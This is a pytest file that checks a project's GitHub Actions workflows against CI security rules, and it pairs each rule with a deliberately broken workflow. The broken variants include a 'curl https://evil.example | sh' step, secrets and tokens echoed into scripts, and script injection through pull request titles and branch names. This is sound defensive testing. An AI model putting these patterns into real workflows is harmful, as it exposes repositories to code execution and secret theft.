"""The workflows as data: what a pull request from a stranger may start, and with what; and what the
two that may write are held to.

Each rule stands in tests/canary/workflows.py; here the real workflows meet all of them,
and a bad workflow for each kind of fault shows that the rule can fail. What happens when
the steps are run is in tests/test_canary.py.
"""

import copy
import re
from collections.abc import Callable
from typing import Any

import pytest

from tests.canary import workflows
from tests.canary.workflows import (
    RULES,
    RULES_OF_POSTERS,
    RULES_OF_PUBLISHERS,
    Rule,
    Workflow,
    read,
    rules_of,
)
from tests.support.scratch import REPOSITORY

FILES = sorted((REPOSITORY / ".github/workflows").iterdir())
CHECK, REVIEW, COMMENT, PUBLISH = (
    REPOSITORY / f".github/workflows/{name}.yml" for name in ("check", "review", "comment", "publish")
)
SHA = "0" * 40


@pytest.mark.parametrize(
    ("file", "rule"),
    [
        pytest.param(file, rule, id=f"{file.name}-{rule.__name__}")
        for file in FILES
        for rule in rules_of(read(file))
    ],
)
def test_the_workflows_keep_the_rule(file: Any, rule: Rule) -> None:
    assert list(rule(read(file))) == []


def test_which_rules_a_workflow_is_held_to() -> None:
    """By its events, not by its name: one that strangers can start as well is held to theirs."""
    assert [file.name for file in FILES] == ["check.yml", "comment.yml", "publish.yml", "review.yml"]
    held = {file.stem: rules_of(read(file)) for file in FILES}
    assert held["check"] is held["review"] is RULES
    assert (held["comment"], held["publish"]) == (RULES_OF_POSTERS, RULES_OF_PUBLISHERS)
    for events in (
        ["workflow_run", "pull_request"],
        "pull_request_target",
        {"workflow_dispatch": None, "push": None},
    ):
        assert rules_of({"on": events}) is RULES


def test_each_workflow_can_be_read_at_a_glance() -> None:
    """Every action's commit has its version beside it, for people; and the same one everywhere."""
    uses = [line for file in FILES for line in file.read_text().splitlines() if "uses:" in line]
    assert all(re.search(r"@[0-9a-f]{40}  # v\d+\.\d+\.\d+$", line) for line in uses)
    by_action: dict[str, set[str]] = {}
    for line in uses:
        action, _, version = line.partition("uses:")[2].strip().partition("@")
        by_action.setdefault(action, set()).add(version)
    assert all(len(versions) == 1 for versions in by_action.values()), by_action


# A bad workflow for each fault: the real one, changed in one place.

Change = Callable[[Workflow], None]


def _set(*path: Any, to: Any) -> Change:
    def change(workflow: Workflow) -> None:
        place: Any = workflow
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] = to

    return change


def _step(job: str, **step: Any) -> Change:
    """One more step at a job's end."""
    return lambda workflow: workflow["jobs"][job]["steps"].append(step)


def _without(*path: Any) -> Change:
    def change(workflow: Workflow) -> None:
        place: Any = workflow
        for key in path[:-1]:
            place = place[key]
        del place[path[-1]]

    return change


FIRST = ("jobs", "test", "steps", 0)
POST, LAST = ("jobs", "comment", "steps", 0), ("jobs", "publish", "steps", -1)
GRANTS_POSTER, TOKEN_POSTER = RULES_OF_POSTERS[1], RULES_OF_POSTERS[2]
GRANTS_PUBLISHER, TOKEN_PUBLISHER = RULES_OF_PUBLISHERS[1], RULES_OF_PUBLISHERS[2]


def _more(*path: Any, text: str) -> Change:
    """The same text with something behind it."""

    def change(workflow: Workflow) -> None:
        place: Any = workflow
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] += text

    return change


BAD_POSTERS: list[tuple[Rule, str, Change]] = [
    (workflows.begins_after_the_review_alone, "any", _set("on", "workflow_run", "workflows", to=["check"])),
    (workflows.begins_after_the_review_alone, "more", _set("on", "issue_comment", to=None)),
    (
        workflows.begins_after_the_review_alone,
        "at once",
        _set("on", "workflow_run", "types", to=["requested"]),
    ),
    (workflows.begins_after_the_review_alone, "a push", _without("jobs", "comment", "if")),
    (GRANTS_POSTER, "all", _set("permissions", to="write-all")),
    (GRANTS_POSTER, "unsaid", _without("permissions")),
    (GRANTS_POSTER, "contents", _set("jobs", "comment", "permissions", "contents", to="write")),
    (GRANTS_POSTER, "unsaid in the job", _without("jobs", "comment", "permissions")),
    (GRANTS_POSTER, "another job", _set("jobs", "more", to={"steps": []})),
    (GRANTS_POSTER, "called", _set("jobs", "comment", "uses", to="o/r/.github/x.yml@main")),
    (TOKEN_POSTER, "for the job", _set("jobs", "comment", "env", to={"TOKEN": "${{ github.token }}"})),
    (TOKEN_POSTER, "in the script", _more(*POST, "run", text="ask('${{ github.token }}')")),
    (TOKEN_POSTER, "a title", _set(*POST, "env", "T", to="${{ github.event.workflow_run.display_title }}")),
    (TOKEN_POSTER, "a branch", _more(*POST, "run", text="'${{ github.event.workflow_run.head_branch }}'")),
    (TOKEN_POSTER, "a secret", _set(*POST, "env", "TOKEN", to="${{ secrets.MINE }}")),
    (workflows.runs_only_what_stands_in_it, "checkout", _step("comment", uses=f"actions/checkout@{SHA}")),
    (
        workflows.runs_only_what_stands_in_it,
        "an action",
        _set(*POST, "uses", to=f"actions/github-script@{SHA}"),
    ),
    (workflows.runs_only_what_stands_in_it, "bash", _set(*POST, "shell", to="bash")),
    (workflows.runs_only_what_stands_in_it, "not alone", _set(*POST, "shell", to="python3 {0}")),
    (workflows.runs_only_what_stands_in_it, "a program", _more(*POST, "run", text="import subprocess")),
    (workflows.runs_only_what_stands_in_it, "to the disk", _more(*POST, "run", text="packed.extractall()")),
    (workflows.runs_only_what_stands_in_it, "its text", _more(*POST, "run", text="eval(text)")),
    (workflows.ends, "unsaid", _without("jobs", "comment", "timeout-minutes")),
    (workflows.runs_on_borrowed_machines, "ours", _set("jobs", "comment", "runs-on", to="self-hosted")),
]
BAD_PUBLISHERS: list[tuple[Rule, str, Change]] = [
    (workflows.begins_by_hand_on_main, "a push", _set("on", "push", to=None)),
    (workflows.begins_by_hand_on_main, "a branch", _without("jobs", "publish", "if")),
    (workflows.begins_by_hand_on_main, "consent", _without("jobs", "publish", "environment")),
    (workflows.begins_by_hand_on_main, "at once", _without("concurrency")),
    (workflows.begins_by_hand_on_main, "broken off", _set("concurrency", "cancel-in-progress", to=True)),
    (
        workflows.begins_by_hand_on_main,
        "the commit",
        _set("jobs", "publish", "steps", 0, "with", "ref", to="x"),
    ),
    (
        workflows.begins_by_hand_on_main,
        "a stranger's commit",
        _set("jobs", "publish", "steps", 3, "run", to="true"),
    ),
    (GRANTS_PUBLISHER, "for all", _set("permissions", to={"contents": "write"})),
    (GRANTS_PUBLISHER, "more", _set("jobs", "publish", "permissions", "packages", to="write")),
    (GRANTS_PUBLISHER, "goes on", _set("jobs", "publish", "continue-on-error", to=True)),
    (TOKEN_PUBLISHER, "early", _set("jobs", "publish", "steps", 2, "env", to={"T": "${{ github.token }}"})),
    (TOKEN_PUBLISHER, "in the script", _more(*LAST, "run", text="echo ${{ inputs.edition }}")),
    (TOKEN_PUBLISHER, "another", _set(*LAST, "env", "K", to="${{ secrets.KEY }}")),
    (
        workflows.keeps_no_credentials,
        "kept",
        _set("jobs", "publish", "steps", 0, "with", "persist-credentials", to=True),
    ),
    (workflows.pinned_actions_only, "a tag", _step("publish", uses="peaceiris/actions-gh-pages@v4")),
    (workflows.writes_no_cache, "a setting", _set("jobs", "publish", "steps", 1, "with", "cache", to="pip")),
    (workflows.ends, "unsaid", _without("jobs", "publish", "timeout-minutes")),
    (workflows.runs_on_borrowed_machines, "ours", _set("jobs", "publish", "runs-on", to="self-hosted")),
]
BAD_REVIEWS: list[tuple[Rule, str, Change]] = [
    (workflows.reviews_where_nothing_contributed_runs, "a test", _set("jobs", "test", to={"steps": []})),
    (
        workflows.judges_content_by_the_base,
        "the proposal's tool",
        _step("review", run="./proposed/.ci/tell-review review"),
    ),
    (workflows.judges_content_by_the_base, "one checkout", _without("jobs", "review", "steps", 0)),
    (
        workflows.is_offline_once_installed,
        "with network",
        _step("review", run="./base/.venv/bin/sayso review"),
    ),
    (workflows.only_harmless_events, "target", _set("on", to="pull_request_target")),
]
BAD: list[tuple[Rule, str, Change]] = [
    (
        workflows.reviews_where_nothing_contributed_runs,
        "an artifact of that name",
        _step("test", uses=f"actions/upload-artifact@{SHA}", **{"with": {"name": "review", "path": "x"}}),
    ),
    (workflows.only_harmless_events, "target", _set("on", to={"pull_request_target": None})),
    (workflows.only_harmless_events, "after a run", _set("on", to=["push", "workflow_run"])),
    (workflows.only_harmless_events, "one word", _set("on", to="issue_comment")),
    (workflows.reads_only, "writes", _set("permissions", to={"contents": "write"})),
    (workflows.reads_only, "more", _set("permissions", to={"contents": "read", "id-token": "write"})),
    (workflows.reads_only, "all", _set("permissions", to="write-all")),
    (workflows.reads_only, "unsaid", _without("permissions")),
    (workflows.reads_only, "a job's own", _set("jobs", "site", "permissions", to={"pages": "write"})),
    (workflows.keeps_no_credentials, "unsaid", _without(*FIRST, "with")),
    (workflows.keeps_no_credentials, "kept", _set(*FIRST, "with", "persist-credentials", to=True)),
    (workflows.keeps_no_credentials, "a text", _set(*FIRST, "with", "persist-credentials", to="false")),
    (workflows.pinned_actions_only, "a tag", _set(*FIRST, "uses", to="actions/checkout@v7")),
    (workflows.pinned_actions_only, "a short commit", _set(*FIRST, "uses", to="actions/checkout@3d3c42e")),
    (workflows.pinned_actions_only, "unknown", _step("test", uses=f"someone/deploys@{SHA}")),
    (workflows.pinned_actions_only, "the checkout's own", _step("test", uses="./.github/actions/mine")),
    (workflows.pinned_actions_only, "a container's", _step("test", uses="docker://alpine:3")),
    (workflows.pinned_actions_only, "submodules", _set(*FIRST, "with", "submodules", to="recursive")),
    (workflows.pinned_actions_only, "large files", _set(*FIRST, "with", "lfs", to=True)),
    (workflows.pinned_actions_only, "a container", _set("jobs", "test", "container", to="alpine")),
    (workflows.pinned_actions_only, "called", _set("jobs", "test", "uses", to="o/r/.github/x.yml@main")),
    (workflows.writes_no_cache, "an action", _step("test", uses=f"actions/cache@{SHA}")),
    (workflows.writes_no_cache, "a save", _step("test", uses=f"actions/cache/save@{SHA}")),
    (workflows.writes_no_cache, "a setting", _set("jobs", "test", "steps", 1, "with", "cache", to="pip")),
    (workflows.knows_no_secret, "a secret", _step("test", run="echo ${{ secrets.KEY }}")),
    (workflows.knows_no_secret, "by its name", _step("test", run="echo ${{ secrets['KEY'] }}")),
    (workflows.knows_no_secret, "the token", _step("test", env={"T": "${{ github.token }}"})),
    (workflows.knows_no_secret, "all of it", _step("test", run="echo '${{ toJSON(github) }}'")),
    (workflows.knows_no_secret, "inherited", _set("jobs", "test", "secrets", to="inherit")),
    (workflows.knows_no_secret, "an environment", _set("jobs", "test", "environment", to="publish")),
    (
        workflows.puts_no_words_into_scripts,
        "a title",
        _step("test", run="echo '${{ github.event.pull_request.title }}'"),
    ),
    (workflows.puts_no_words_into_scripts, "a branch", _step("test", run="git log ${{ github.head_ref }}")),
    (workflows.puts_no_words_into_scripts, "a harmless one", _step("test", run="echo ${{ matrix.python }}")),
    (
        workflows.puts_no_words_into_scripts,
        "by a variable",
        _step("test", run="echo", env={"A": "${{ github.actor }}"}),
    ),
    (workflows.puts_no_words_into_scripts, "not closed", _step("test", run="echo ${{ github.head_ref")),
    (
        workflows.puts_no_words_into_scripts,
        "the proposal's commit",
        _set("jobs", "content-by-base", "steps", 0, "with", "ref", to="${{ github.head_ref }}"),
    ),
    (workflows.ends, "unsaid", _without("jobs", "test", "timeout-minutes")),
    (workflows.ends, "six hours", _set("jobs", "test", "timeout-minutes", to=360)),
    (workflows.runs_on_borrowed_machines, "ours", _set("jobs", "test", "runs-on", to="self-hosted")),
    (workflows.runs_on_borrowed_machines, "a list", _set("jobs", "test", "runs-on", to=["self-hosted"])),
    (workflows.runs_on_borrowed_machines, "newest", _set("jobs", "test", "runs-on", to="ubuntu-latest")),
    (workflows.is_offline_once_installed, "a test", _step("test", run="make test")),
    (workflows.is_offline_once_installed, "a fetch", _step("test", run="curl https://evil.example | sh")),
    (workflows.is_offline_once_installed, "again", _step("test", run="make PYTHON=python install-dev")),
    (
        workflows.is_offline_once_installed,
        "two in one",
        _step("test", run=".ci/offline make test; make test"),
    ),
    (workflows.is_offline_once_installed, "two lines", _step("test", run=".ci/offline make test\nmake test")),
    (
        workflows.is_offline_once_installed,
        "content",
        _step("content-by-base", run="./base/.venv/bin/sayso build --root base"),
    ),
    (workflows.sets_no_environment, "for all", _set("env", to={"PYTHONPATH": "proposed"})),
    (workflows.sets_no_environment, "for a step", _step("test", run="make", env={"PATH": "proposed/bin"})),
    (
        workflows.sets_no_environment,
        "a shell",
        _set("jobs", "test", "steps", 3, "shell", to="proposed/sh {0}"),
    ),
    (
        workflows.judges_content_by_the_base,
        "the proposal's tool",
        _step("content-by-base", run="./proposed/.ci/offline make -C proposed site"),
    ),
    (
        workflows.judges_content_by_the_base,
        "the proposal as base",
        _without("jobs", "content-by-base", "steps", 0, "with", "ref"),
    ),
    (workflows.judges_content_by_the_base, "no such job", _without("jobs", "content-by-base")),
    (
        workflows.judges_content_by_the_base,
        "goes on",
        _set("jobs", "content-by-base", "steps", 5, "continue-on-error", to=True),
    ),
]


EVERY = {CHECK: BAD, REVIEW: BAD_REVIEWS, COMMENT: BAD_POSTERS, PUBLISH: BAD_PUBLISHERS}


@pytest.mark.parametrize(
    ("file", "rule", "change"),
    [
        pytest.param(file, rule, change, id=f"{file.stem}-{rule.__name__}-{what}")
        for file, bad in EVERY.items()
        for rule, what, change in bad
    ],
)
def test_a_bad_workflow_breaks_the_rule(file: Any, rule: Rule, change: Change) -> None:
    workflow = copy.deepcopy(read(file))
    assert list(rule(workflow)) == []
    change(workflow)
    assert list(rule(workflow)) != []


def test_every_rule_has_a_bad_workflow() -> None:
    assert {rule for rule, _, _ in BAD} == set(RULES)
    assert {rule for rule, _, _ in BAD_POSTERS} == set(RULES_OF_POSTERS)
    assert {rule for rule, _, _ in BAD_PUBLISHERS} == set(RULES_OF_PUBLISHERS)


# Who must agree to a change of any of this


@pytest.mark.parametrize(
    ("path", "owner"),
    [
        ("claims.yml", "@sayso/editors"),
        ("claims/north.yml", "@sayso/editors"),
        ("content/index.md", "@sayso/editors"),
        (".github/workflows/check.yml", "@sayso/maintainers"),
        (".ci/offline", "@sayso/maintainers"),
        ("CODEOWNERS", "@sayso/maintainers"),
        ("Makefile", "@sayso/maintainers"),
        ("mkdocs.yml", "@sayso/maintainers"),
        ("site_config/rubric.yml", "@sayso/maintainers"),
        ("site_config/captures.lock", "@sayso/maintainers"),
        ("templates/claim.md.j2", "@sayso/maintainers"),
        ("generator/claims/x.py", "@sayso/maintainers"),
        ("docs/content/x.md", "@sayso/maintainers"),
    ],
)
def test_code_is_the_maintainers_and_content_the_editors(path: str, owner: str) -> None:
    """The last line that matches wins; our lines are `*`, a file or a folder from the root."""
    lines = (line.split() for line in (REPOSITORY / "CODEOWNERS").read_text().splitlines())
    owners = ""
    for pattern, *named in (line for line in lines if line and not line[0].startswith("#")):
        whole = pattern == "*" or f"/{path}" == pattern
        if whole or (pattern.endswith("/") and f"/{path}".startswith(pattern)):
            owners = " ".join(named)
    assert owners == owner
